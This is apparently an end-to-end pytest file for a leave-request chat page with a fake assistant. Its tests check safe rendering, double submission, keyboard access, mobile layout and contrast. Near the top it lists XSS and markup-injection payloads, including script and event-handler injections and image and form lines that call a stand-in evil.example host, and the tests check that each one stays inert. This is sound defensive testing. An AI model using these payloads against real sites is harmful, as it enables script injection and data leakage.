"""The page in a real browser, with a fake assistant: attacks as text, the buttons, narrow and dark."""

from collections.abc import Iterator
from typing import Any

import pytest
from web_fake import NOW, PEOPLE, FakeBot
from web_served import Tab, WithoutPolicy, chromium, served

from model.conversation import Message
from model.settings import Settings

pytestmark = pytest.mark.e2e

PAYLOADS = (
    '<img src=x onerror="window.__x=1">',
    "<script>window.__x=2</script>",
    "[c](javascript:window.__x=3)",
    "<svg onload=window.__x=4>",
    '<svg><a href="javascript:window.__x=7"><text y=20>k</text></a></svg>',
    '<iframe srcdoc="<script>parent.__x=5</script>"></iframe>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__x=8>",
    "<form action=//evil.example><input name=p></form>",
    "<style>body{display:none}</style>",
    "![x](http://evil.example/?q=E1001)",
    "<img src=//evil.example/a.png>",
    "$$\\href{javascript:alert(1)}{x}$$",
    "```mermaid\ngraph TD; A-->B\n```",
    "<!-- hidden",
    "&lt;script&gt;window.__x=9&lt;/script&gt;",
    "https://evil.example/a www.evil.example a@evil.example",
)
INERT = """root => [...document.querySelectorAll(root)].flatMap(part =>
    [...part.querySelectorAll('a, img, form, svg, iframe, style, script, math, input, table, pre, code')])
    .filter(part => !part.matches('.drawn > svg.strip')).map(part => part.outerHTML)"""
DRAWN = """() => [...new Set([...document.querySelectorAll('#preview .drawn *')].map(part => part.tagName.toLowerCase()))]"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium() as running:
        yield running


@pytest.fixture(scope="module", params=["with the policy", "without the policy"])
def place(request: pytest.FixtureRequest) -> Iterator[tuple[str, FakeBot]]:
    from module.web.page import create_app

    bot = FakeBot()
    app = create_app(bot, Settings())
    with served(app if request.param == "with the policy" else WithoutPolicy(app)) as address:
        yield address, bot


@pytest.fixture
def tab(browser: Any, place: tuple[str, FakeBot]) -> Iterator[Tab]:
    place[1].forget()
    opened = Tab(browser, place[0])
    yield opened
    opened.context.close()


@pytest.fixture(autouse=True)
def _refusals_are_expected(logged: list[Any]) -> Iterator[None]:
    yield
    logged[:] = [entry for entry in logged if entry["event"] != "confirm_without_preview"]


def test_XS_01_XS_02_XS_03_XS_05_data_is_shown_literally_and_does_nothing(
    tab: Tab, place: tuple[str, FakeBot], monkeypatch: pytest.MonkeyPatch
) -> None:
    bot = place[1]
    everything = "\n\n".join(PAYLOADS)
    bot.memo = " ".join(PAYLOADS)
    bot.note = " ".join(PAYLOADS)
    bot.agent = '<img src=x onerror="window.__x=10">'
    hostile = [(no, f"{name}<img src=//evil.example/n>", f"{no}<b>", department) for no, name, _, department in PEOPLE]
    monkeypatch.setattr("web_fake.PEOPLE", tuple(hostile))
    bot.said["amy.chen"] = [Message("assistant", everything, NOW), Message("user", everything, NOW)]
    tab.say("請特休")
    assert tab.page.evaluate(INERT, "#chat .message, #preview, #who") == []
    assert set(tab.page.evaluate(DRAWN)) <= {"svg", "defs", "pattern", "rect", "path", "circle", "text"}
    shown = tab.page.inner_text("#chat .bot.message >> nth=1")
    for payload in PAYLOADS:
        assert all(line in shown for line in payload.split("\n")), payload
    assert bot.agent in tab.page.inner_text("#preview")
    for part in tab.page.query_selector_all("#chat .message"):
        part.click()
    tab.page.wait_for_timeout(200)
    assert tab.page.evaluate("window.__x") is None
    assert tab.foreign() == []


def test_options_from_data_are_text_too(tab: Tab, place: tuple[str, FakeBot]) -> None:
    place[1].options = ("<img src=x onerror=window.__x=1>", "**請特休**")
    tab.say("怪怪的")
    assert tab.page.inner_text("#chat .options").split("\n") == list(place[1].options)
    tab.page.click("#chat .options button >> nth=1")
    tab.page.wait_for_selector("#confirm:visible")
    assert place[1].heard[-1] == ("amy.chen", "**請特休**")
    assert tab.page.evaluate("window.__x") is None


def test_SB_05_a_double_click_files_once(tab: Tab, place: tuple[str, FakeBot]) -> None:
    tab.say("下週三要請特休")
    assert tab.chip() == "待確認"
    tab.page.dblclick("#confirm")
    tab.page.wait_for_selector("#state .chip-sent")
    assert place[1].filed == ["token-1"]
    assert tab.page.locator("#confirm").count() == 0


def test_two_tabs_and_a_reload_show_the_same_conversation(tab: Tab, place: tuple[str, FakeBot]) -> None:
    tab.say("下週三要請特休")
    second = tab.open()
    second.goto(tab.address)
    second.wait_for_selector("#confirm:visible")
    assert "下週三要請特休" in second.inner_text("#chat")
    second.click("#confirm")
    second.wait_for_selector("#state .chip-sent")
    tab.page.click("#confirm")
    tab.page.wait_for_function("() => document.querySelector('#chat').innerText.includes('內容已變更')")
    assert place[1].filed == ["token-1"]
    tab.page.reload()
    tab.ready()
    assert tab.chip() == "已送出"


def test_a_doubtful_answer_is_looked_up_until_it_is_known(tab: Tab, place: tuple[str, FakeBot]) -> None:
    place[1].doubtful = True
    tab.say("下週三要請特休")
    tab.page.click("#confirm")
    tab.page.wait_for_selector("#state .chip-pending")
    place[1].settle("amy.chen")
    tab.page.wait_for_selector("#state .chip-sent")


def test_clarifying_shows_the_round_and_reset_forgets(tab: Tab, place: tuple[str, FakeBot]) -> None:
    tab.say("怪怪的")
    assert tab.chip() == "澄清中 1/3"
    assert tab.page.inner_text("#state .badge") == "規則模式"
    tab.page.click("#reset")
    tab.page.wait_for_selector("#state .chip-ready")
    assert "怪怪的" not in tab.page.inner_text("#chat")
    assert "amy.chen" not in place[1].said


def test_logging_out_leads_back_to_the_login(tab: Tab) -> None:
    tab.page.click("#logout button")
    tab.page.wait_for_selector(".people")


def test_everything_can_be_reached_by_keyboard_and_has_a_name(tab: Tab) -> None:
    tab.say("下週三要請特休")
    nameless = tab.page.evaluate(
        """() => [...document.querySelectorAll('button, textarea, input')].filter(part => part.offsetParent &&
        !(part.innerText.trim() || part.ariaLabel || part.labels?.[0]?.innerText.trim())).map(part => part.outerHTML)"""
    )
    assert nameless == []
    names = set()
    for _ in range(12):
        tab.page.keyboard.press("Tab")
        names.add(tab.page.evaluate("document.activeElement.innerText"))
    assert {"重新開始", "登出", "確認送出"} <= names


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_a_phone_shows_everything_without_scrolling_sideways(
    browser: Any, place: tuple[str, FakeBot], scheme: str
) -> None:
    place[1].forget()
    phone = Tab(browser, place[0], viewport={"width": 390, "height": 844}, color_scheme=scheme, has_touch=True)
    phone.say("下週三要請特休" + "很" * 60)
    assert phone.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert phone.page.evaluate("document.body.classList.contains('dark')") is (scheme == "dark")
    phone.page.tap("#confirm")
    phone.page.wait_for_selector("#state .chip-sent")
    assert phone.foreign() == []
    phone.context.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_words_stand_out_enough_from_their_ground(browser: Any, place: tuple[str, FakeBot], scheme: str) -> None:
    place[1].forget()
    tab = Tab(browser, place[0], color_scheme=scheme)
    tab.say("怪怪的")
    tab.say("下週三要請特休")
    weak = tab.page.evaluate(CONTRAST, "#top span, #top button, #title h1, #chat p, #preview dt, #preview dd, #confirm")
    assert weak == []
    tab.context.close()


CONTRAST = """(selector) => {
  const rgb = text => (text.match(/[\\d.]+/g) || []).map(Number);
  const light = ([r, g, b]) => [r, g, b].map(v => (v /= 255) <= .03928 ? v / 12.92 : ((v + .055) / 1.055) ** 2.4)
    .reduce((sum, v, i) => sum + v * [.2126, .7152, .0722][i], 0);
  const ground = part => { for (; part; part = part.parentElement) {
    const colour = rgb(getComputedStyle(part).backgroundColor);
    if (colour.length === 3 || colour[3] === 1) return colour; } return [255, 255, 255]; };
  return [...document.querySelectorAll(selector)].filter(part => part.offsetParent && part.innerText.trim()).map(part => {
    const [a, b] = [light(rgb(getComputedStyle(part).color)), light(ground(part))].sort((x, y) => y - x);
    return [part.className || part.tagName, part.innerText, ((a + .05) / (b + .05)).toFixed(2)];
  }).filter(found => found[2] < 4.5);
}"""
